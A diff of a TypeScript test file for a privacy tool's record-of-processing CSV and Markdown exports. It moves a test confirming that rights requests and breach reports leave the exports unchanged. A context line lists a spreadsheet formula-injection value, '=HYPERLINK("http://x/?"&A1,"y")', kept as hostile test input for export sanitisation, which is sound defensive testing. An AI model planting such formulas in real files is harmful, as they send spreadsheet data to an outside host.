@@ -85,6 +85,26 @@ describe('GET /ropa.csv and /ropa.md', () => {
   });
 });
 
+describe('the record of processing and the registers', () => {
+  it('counts neither rights requests nor breaches', async () => {
+    const asOfficer = await authAs('PRIVACY_OFFICER');
+    const before = await Promise.all(['/ropa.csv', '/ropa.md'].map(async (path) => (await download(path, asOfficer)).text()));
+    const request = await app.gql(
+      `mutation ($input: RightsRequestInput!) { createRightsRequest(input: $input) { id } }`,
+      { input: { right: 'access', receivedAt: '2026-01-05T10:00:00Z', jurisdiction: 'DE', subjectReference: 'user-1', collectionPoints: ['registration'], consents: [] } },
+      asOfficer,
+    );
+    const breach = await app.gql(
+      `mutation ($input: BreachInput!) { reportBreach(input: $input) { id } }`,
+      { input: { awareAt: '2026-01-05T10:00:00Z', description: 'Laptop lost', processors: ['aws'], risk: 'RISK' } },
+      asOfficer,
+    );
+    expect([request.errors, breach.errors]).toEqual([undefined, undefined]);
+    const after = await Promise.all(['/ropa.csv', '/ropa.md'].map(async (path) => (await download(path, asOfficer)).text()));
+    expect(after).toEqual(before);
+  });
+});
+
 describe('hostile names in the exports', () => {
   const HOSTILE = [
     '=HYPERLINK("http://x/?"&A1,"y")',
@@ -169,25 +189,5 @@ describe('hostile names in the exports', () => {
     const cellsOf = (row: string) => row.replace(/\\./g, '').split('|').length;
     expect(new Set(rows.map(cellsOf))).toEqual(new Set([11]));
     expect(rows.find((row) => row.includes('one<br>two'))).toContain('one<br>two \\| three<br>four');
-  });
-});
-
-describe('the record of processing and the registers', () => {
-  it('counts neither rights requests nor breaches', async () => {
-    const asOfficer = await authAs('PRIVACY_OFFICER');
-    const before = await Promise.all(['/ropa.csv', '/ropa.md'].map(async (path) => (await download(path, asOfficer)).text()));
-    const request = await app.gql(
-      `mutation ($input: RightsRequestInput!) { createRightsRequest(input: $input) { id } }`,
-      { input: { right: 'access', receivedAt: '2026-01-05T10:00:00Z', jurisdiction: 'DE', subjectReference: 'user-1', collectionPoints: ['registration'], consents: [] } },
-      asOfficer,
-    );
-    const breach = await app.gql(
-      `mutation ($input: BreachInput!) { reportBreach(input: $input) { id } }`,
-      { input: { awareAt: '2026-01-05T10:00:00Z', description: 'Laptop lost', processors: ['aws'], risk: 'RISK' } },
-      asOfficer,
-    );
-    expect([request.errors, breach.errors]).toEqual([undefined, undefined]);
-    const after = await Promise.all(['/ropa.csv', '/ropa.md'].map(async (path) => (await download(path, asOfficer)).text()));
-    expect(after).toEqual(before);
   });
 });
